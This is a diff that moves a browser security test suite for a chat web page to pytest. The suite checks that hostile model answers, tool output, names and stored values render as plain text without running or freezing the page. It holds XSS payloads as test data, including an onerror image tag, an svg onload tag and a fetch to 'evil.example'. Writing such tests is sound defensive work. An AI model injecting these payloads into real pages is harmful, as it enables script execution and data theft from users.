@@ -1,11 +1,10 @@
 """What a model or a tool may say must stay text: nothing runs, nothing is requested, nothing of the page is replaced, and the
-page does not freeze. python web_hostile_test.py BINARY MODEL (neither is used: a scripted server says what no model would)."""
+page does not freeze. A scripted server says what no model would."""
 
 import json
-import sys
-import time
 
-from web_browser import Browser, run_cases
+import pytest
+
 from web_fake_server import Fake, approval, call, text, thought
 
 BAD = "window.hacked=1;fetch('http://evil.example/')"
@@ -153,6 +152,13 @@ def script(said, body):
     return [thought(" ".join(HOSTILE[:8])), text("\n\n".join(HOSTILE), 200)]
 
 
+@pytest.fixture(scope="module")
+def page(browser):
+    page = Hostile(browser)
+    yield page
+    page.fake.stop()
+
+
 class Hostile:
     def __init__(self, browser):
         self.b = browser
@@ -169,100 +175,88 @@ class Hostile:
         assert isinstance(worst, list), worst
         return worst
 
-    def check_answers_and_thoughts_stay_text(self):
-        b = self.b
-        b.open(self.fake.url)
-        b.send("go")
-        b.done()
-        b.click(".thought summary")
-        time.sleep(0.5)
-        self.clean()
-        b.see("<script>window.hacked=1", ".answer .prose")
-        b.see("http://evil.example/pixel.png", ".answer .prose")
 
-    def check_each_text_alone(self):
-        b = self.b
-        b.open(self.fake.url)
-        self.feed(HOSTILE)
-        self.clean()
-        # Pressing every link and button of the texts does nothing on this page.
-        b.js("for (const one of document.querySelectorAll('.prose a')) { one.addEventListener('click', (event) => event.preventDefault()); one.click(); }")
-        assert b.js("return location.href").startswith(self.fake.url)
-        self.clean()
-
-    def slowness(self):
-        """How much longer the browser takes now for a loop of about 60 ms."""
-        took = self.b.js("const began = performance.now(); let x = 0; for (let i = 0; i < 6e7; i++) x = (x * 31 + i) | 0;"
-                         "return performance.now() - began + (x === 1)")
-        return max(1, took / 60)
-
-    def check_huge_texts_do_not_freeze_the_page(self):
-        b = self.b
-        b.open(self.fake.url)
-        slow = []
-        for name, value in HUGE.items():
-            # A second on a quiet machine; the other cores may be busy, so the best of three counts.
-            for _ in range(3):
-                limit = 1000 * self.slowness()
-                [[worst, length]] = self.feed([value])
-                if worst <= limit:
-                    break
-            else:
-                slow.append(f"{name}: {worst} ms")
-            assert length or not value.strip(), name
-        self.clean()
-        assert not slow, slow
-
-    def check_tools_stay_text(self):
-        b = self.b
-        b.open(self.fake.url)
-        b.ask("tool")
-        b.see("<img src=x onerror=alert(1)>", ".consent")
-        b.button("Allow once").click()
-        b.see("failed", ".state")
-        for summary in b.all(".tool summary"):
-            summary.click()
-        b.see("more characters", ".tool-body")
-        self.clean()
-
-    def check_names_stay_text(self):
-        b = self.b
-        session = self.fake.new_session(HOSTILE[2], {"model": HOSTILE[2], "tools": ["x"], "temperature": "<b>"})
-        head = self.fake.add(session, None, role="user", content=HOSTILE[2])
-        self.fake.add(session, head, role="assistant", content=HOSTILE[4], model=HOSTILE[2],
-                      tool_calls=[{"id": "c", "type": "function", "function": {"name": HOSTILE[2], "arguments": HOSTILE[0]}}])
-        b.open(self.fake.url)
-        b.click("#keep")
-        b.see("<img src=x", "#conversations")
-        b.click("#conversations a")
-        b.see("<svg onload", ".answer .prose")
-        b.see("<img src=x", "#title")
-        b.click("#settings")
-        self.clean()
-        assert b.js("return document.querySelectorAll('#turns img, #sidebar img:not([src=\"web/icon.svg\"]), header img').length") == 0
-
-    def check_stored_text_of_another_page_is_harmless(self):
-        """Settings and conversations in the browser's storage that are not what this page writes."""
-        b = self.b
-        b.open(self.fake.url)
-        b.js("""localStorage.setItem("anabranch.settings", JSON.stringify({model: 7, tools: "x", temperature: "<b>", other: 1}));
-            localStorage.setItem("anabranch.consent", "[[["); localStorage.setItem("anabranch.theme", '"><script>');
-            sessionStorage.setItem("anabranch.draft", "{"); sessionStorage.setItem("anabranch.open", "../x");""")
-        b.driver.refresh()
-        b.see("What can I do for you?")
-        b.ask("hello")
-        body = self.fake.bodies[-1]
-        assert "temperature" not in body and "tools" not in body and "model" not in body, json.dumps(body)[:300]
-        assert not b.js(INSPECT)
+def test_answers_and_thoughts_stay_text(page):
+    b = page.b
+    b.open(page.fake.url)
+    b.send("go")
+    b.done()
+    b.click(".thought summary")
+    b.frames()
+    page.clean()
+    b.see("<script>window.hacked=1", ".answer .prose")
+    b.see("http://evil.example/pixel.png", ".answer .prose")
 
 
-def main():
-    browser = Browser()
-    try:
-        return run_cases([Hostile(browser)])
-    finally:
-        browser.close()
+def test_each_text_alone(page):
+    b = page.b
+    b.open(page.fake.url)
+    page.feed(HOSTILE)
+    page.clean()
+    # Pressing every link and button of the texts does nothing on this page.
+    b.js("for (const one of document.querySelectorAll('.prose a')) { one.addEventListener('click', (event) => event.preventDefault()); one.click(); }")
+    assert b.js("return location.href").startswith(page.fake.url)
+    page.clean()
 
 
-if __name__ == "__main__":
-    sys.exit(main())
+def test_huge_texts_do_not_freeze_the_page(page):
+    b = page.b
+    b.open(page.fake.url)
+    slow = []
+    for name, value in HUGE.items():
+        # A second on a quiet machine; the other cores may be busy, so the best of three counts.
+        for _ in range(3):
+            limit = 1000 * b.slowness()
+            [[worst, length]] = page.feed([value])
+            if worst <= limit:
+                break
+        else:
+            slow.append(f"{name}: {worst} ms")
+        assert length or not value.strip(), name
+    page.clean()
+    assert not slow, slow
+
+
+def test_tools_stay_text(page):
+    b = page.b
+    b.open(page.fake.url)
+    b.ask("tool")
+    b.see("<img src=x onerror=alert(1)>", ".consent")
+    b.button("Allow once").click()
+    b.see("failed", ".state")
+    for summary in b.all(".tool summary"):
+        summary.click()
+    b.see("more characters", ".tool-body")
+    page.clean()
+
+
+def test_names_stay_text(page):
+    b = page.b
+    session = page.fake.new_session(HOSTILE[2], {"model": HOSTILE[2], "tools": ["x"], "temperature": "<b>"})
+    head = page.fake.add(session, None, role="user", content=HOSTILE[2])
+    page.fake.add(session, head, role="assistant", content=HOSTILE[4], model=HOSTILE[2],
+                  tool_calls=[{"id": "c", "type": "function", "function": {"name": HOSTILE[2], "arguments": HOSTILE[0]}}])
+    b.open(page.fake.url)
+    b.click("#keep")
+    b.see("<img src=x", "#conversations")
+    b.click("#conversations a")
+    b.see("<svg onload", ".answer .prose")
+    b.see("<img src=x", "#title")
+    b.click("#settings")
+    page.clean()
+    assert b.js("return document.querySelectorAll('#turns img, #sidebar img:not([src=\"web/icon.svg\"]), header img').length") == 0
+
+
+def test_stored_text_of_another_page_is_harmless(page):
+    """Settings and conversations in the browser's storage that are not what this page writes."""
+    b = page.b
+    b.open(page.fake.url)
+    b.js("""localStorage.setItem("anabranch.settings", JSON.stringify({model: 7, tools: "x", temperature: "<b>", other: 1}));
+        localStorage.setItem("anabranch.consent", "[[["); localStorage.setItem("anabranch.theme", '"><script>');
+        sessionStorage.setItem("anabranch.draft", "{"); sessionStorage.setItem("anabranch.open", "../x");""")
+    b.driver.refresh()
+    b.see("What can I do for you?")
+    b.ask("hello")
+    body = page.fake.bodies[-1]
+    assert "temperature" not in body and "tools" not in body and "model" not in body, json.dumps(body)[:300]
+    assert not b.js(INSPECT)
